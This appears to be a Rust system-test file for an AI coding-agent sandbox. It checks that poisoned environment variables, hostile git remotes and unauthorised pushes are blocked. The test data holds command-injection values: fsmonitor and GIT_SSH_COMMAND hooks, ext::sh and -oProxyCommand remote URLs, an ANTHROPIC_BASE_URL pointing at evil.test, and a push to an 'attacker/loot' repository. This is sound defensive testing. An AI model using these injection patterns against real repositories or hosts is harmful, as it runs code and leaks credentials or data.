//! What lies on the host and would run there: variables, git's configuration, remotes.

use crate::{report::Report, stage::Stage};
use std::process::Command;
use system_tests::{
    User,
    aftermath::{OPEN_GATE, bash},
    scenes::planted,
};

/// Variables that move git's and the agent's files, or have git run something.
fn poisoned(user: User) -> (User, std::path::PathBuf) {
    let canary = user.home().join("canary");
    let touch = format!("touch {}", canary.display());
    let away = user.home().join("away").display().to_string();
    let set = [
        ("GIT_DIR", away.as_str()),
        ("GIT_WORK_TREE", "/"),
        ("GIT_INDEX_FILE", &away),
        ("GIT_OBJECT_DIRECTORY", &away),
        ("GIT_EXEC_PATH", &away),
        ("GIT_CONFIG_COUNT", "1"),
        ("GIT_CONFIG_KEY_0", "core.fsmonitor"),
        ("GIT_CONFIG_VALUE_0", &touch),
        ("GIT_SSH_COMMAND", &touch),
        ("GIT_EXTERNAL_DIFF", &touch),
        ("GIT_PAGER", &touch),
        ("GIT_TRACE", &away),
        ("CLAUDE_CONFIG_DIR", "/workspace/canary-c12"),
        ("CODEX_HOME", "/workspace/canary-c12"),
        ("ANTHROPIC_BASE_URL", "http://evil.test/poisoned"),
        ("CLAUDE_CODE_SIMPLE", "1"),
    ];
    (set.iter().fold(user, |user, (name, value)| user.with_env(name, value)), canary)
}

pub(super) fn poisoned_environment(stage: &Stage, runtime: &'static str, report: &mut Report) {
    let (user, canary) = poisoned(stage.user(runtime));
    // A git that is simply started is taken in.
    let variables = ["GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"];
    let plain = variables
        .iter()
        .fold(&mut Command::new("git"), |git, name| git.env(name, user.variable(name).unwrap_or_default()))
        .arg("status")
        .current_dir(user.repository())
        .output()
        .expect("git");
    report.control("C-12", plain.status.success() && canary.exists(), "the variables do nothing to git");
    std::fs::remove_file(&canary).expect("canary");
    let look = "env | grep -cE 'canary-c12|GIT_(DIR|TRACE|EXEC_PATH)|evil' >> log.txt; git status --short | grep -c README >> log.txt; echo end >> log.txt";
    let conversation = user.conversation(&[bash(look)]);
    let ran = user.run_task(&user.task("Look.\n"), &conversation, &OPEN_GATE);
    report.held("C-12", ran.code == 0, format!("ended with {}: {}", ran.code, ran.stderr));
    report.held("C-12", user.logged() == ["0", "0", "end"], format!("inside: {:?}", user.logged()));
    report.held("C-12", !canary.exists(), "git ran what the environment names");
    report.held("C-12", stage.internet.hearing.count("evil", "/poisoned") == 0, "the environment's endpoint was asked");
    let run = user.run_id();
    report.held("C-12", user.run(&["diff", &run]).stdout.contains("+end"), "the diff is not the run's");
    report.held("C-12", user.run(&["apply", &run]).code == 0 && !canary.exists(), "apply was taken in");
}

pub(super) fn planted_repository(stage: &Stage, runtime: &'static str, report: &mut Report) {
    let user = stage.user(runtime);
    let ran = planted::the_checkout_s_git_configuration_filters_and_hooks_never_run_on_the_host(&user);
    report.control("K-17", ran.len() >= 5, format!("a git that is simply started runs no more than {ran:?}"));
    report.held("K-17", true, "nothing of it ran");
}

pub(super) fn remotes(stage: &Stage, runtime: &'static str, report: &mut Report) {
    let user = stage.user(runtime);
    let canary = user.home().join("canary");
    let touch = format!("touch {}", canary.display());
    let secret = user.file("secret", "not for others\n");
    for (name, url) in [
        ("ext", format!("ext::sh -c '{touch}'")),
        ("file", format!("file://{}", secret.display())),
        ("path", secret.display().to_string()),
        ("option", format!("-oProxyCommand={touch}:x/r")),
        ("ssh", format!("ssh://-oProxyCommand={touch}/r")),
        ("scp", format!("git@-oProxyCommand={touch}:r")),
        ("plain", "http://git.test/acme/app.git".to_owned()),
        ("query", "https://git.test/acme/app.git?token=Zq7-query-4c1e90".to_owned()),
        ("user", "https://me:Zq7-password-4c1e90@git.test/acme/app.git".to_owned()),
        ("good", "git@git.test:acme/app.git".to_owned()),
    ] {
        user.git(&["config", &format!("remote.{name}.url"), &url]);
    }
    user.git(&["config", "url.ext::sh.insteadOf", "https://git.test/"]);
    user.git(&["config", "protocol.ext.allow", "always"]);
    let look = "git remote -v | sed 's/ (.*//' | sort -u >> log.txt; cat .git/config >> log.txt";
    let conversation = user.conversation(&[bash(look)]);
    let ran = user.run_task(&user.task("Look.\n"), &conversation, &OPEN_GATE);
    report.held("K-16", ran.code == 0, format!("ended with {}: {}", ran.code, ran.stderr));
    let logged = user.logged().join("\n");
    for name in ["good", "user"] {
        let line = format!("{name}\thttps://git.test/acme/app.git");
        report.control("K-16", logged.contains(&line), format!("`{name}` is not there: {logged}"));
    }
    for word in ["ext::", "file://", "ProxyCommand", "http://git", "Zq7", "secret", "insteadOf"] {
        report.held("K-16", !logged.contains(word), format!("`{word}` came in: {logged}"));
    }
    report.held("K-16", !canary.exists(), "a remote's program ran on the host");
    let told = ran
        .events()
        .iter()
        .filter(|event| event["event"] == "notice" && event["text"].to_string().contains("is left out"))
        .count();
    report.held("K-16", told >= 7, format!("{told} remotes were named as left out"));
    report.held("K-16", !format!("{}{}", ran.stdout, ran.stderr).contains("Zq7"), "a credential was printed");
}

/// A run that may create branches of one pattern tries to do more.
pub(super) fn pushes(stage: &Stage, runtime: &'static str, report: &mut Report) {
    let user = stage.user(runtime);
    user.git(&["remote", "add", "origin", "https://git.test/acme/other.git"]);
    let push = |word: &str, args: &str| {
        format!(
            "git push --quiet {args} >/dev/null 2>&1 && echo {word} went >> log.txt || echo {word} refused >> log.txt"
        )
    };
    let branch = format!("sandbox/{runtime}");
    let conversation = user.conversation(&[
        bash("git -c user.name=a -c user.email=a@b.test commit -q --allow-empty -m work"),
        bash(&push("own", &format!("origin HEAD:refs/heads/{branch}"))),
        bash(&push("main", "origin HEAD:refs/heads/main")),
        bash(&push("force", "--force origin HEAD:refs/heads/main")),
        bash(&push("deletion", "origin :refs/heads/main")),
        bash(&push("tag", &format!("origin HEAD:refs/tags/{runtime}"))),
        bash(&push("pull", "origin HEAD:refs/pull/1/head")),
        bash(&push("below", &format!("origin HEAD:refs/heads/{branch}/more"))),
        bash(&push("both", &format!("origin HEAD:refs/heads/sandbox/{runtime}-two HEAD:refs/heads/{runtime}"))),
        bash(&push("options", &format!("-o ci.skip origin HEAD:refs/heads/sandbox/{runtime}-three"))),
        bash(&push("another", "https://git.test/attacker/loot.git HEAD:refs/heads/sandbox/x")),
    ]);
    let sets = [&OPEN_GATE[..], &["--set", "git.push=[\"sandbox/*\"]"]].concat();
    let ran = user.run_task(&user.task("Push.\n"), &conversation, &sets);
    report.held("X-05", ran.code == 0, format!("ended with {}: {}", ran.code, ran.stderr));
    let logged = user.logged();
    report.control(
        "X-05",
        logged.contains(&"own went".to_owned()),
        format!("the allowed branch was not made: {logged:?}"),
    );
    for word in ["main", "force", "deletion", "tag", "pull", "below", "both", "options", "another"] {
        report.held("X-05", logged.contains(&format!("{word} refused")), format!("{word}: {logged:?}"));
    }
    let refs = stage.internet.refs("acme/other.git");
    let is_ours = |name: &&String| name.contains(runtime);
    let allowed = format!("refs/heads/{branch}");
    let more: Vec<_> = refs.iter().filter(is_ours).filter(|name| **name != allowed).collect();
    report.held("X-05", more.is_empty(), format!("made on the forge: {more:?}"));
    report.held("X-05", refs.contains(&"refs/heads/main".to_owned()), "main is gone from the forge");
}
